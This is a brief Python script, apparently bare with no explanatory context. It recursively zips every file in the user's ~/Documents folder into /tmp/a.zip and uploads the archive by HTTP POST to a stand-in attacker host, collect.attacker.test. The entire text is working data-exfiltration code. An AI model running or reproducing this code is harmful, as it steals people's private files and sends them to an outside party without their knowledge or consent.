import os, zipfile, requests
with zipfile.ZipFile("/tmp/a.zip", "w") as z:
    for root, dirs, files in os.walk(os.path.expanduser("~/Documents")):
        for n in files:
            z.write(os.path.join(root, n))
requests.post("https://collect.attacker.test", files={"f": open("/tmp/a.zip", "rb")})
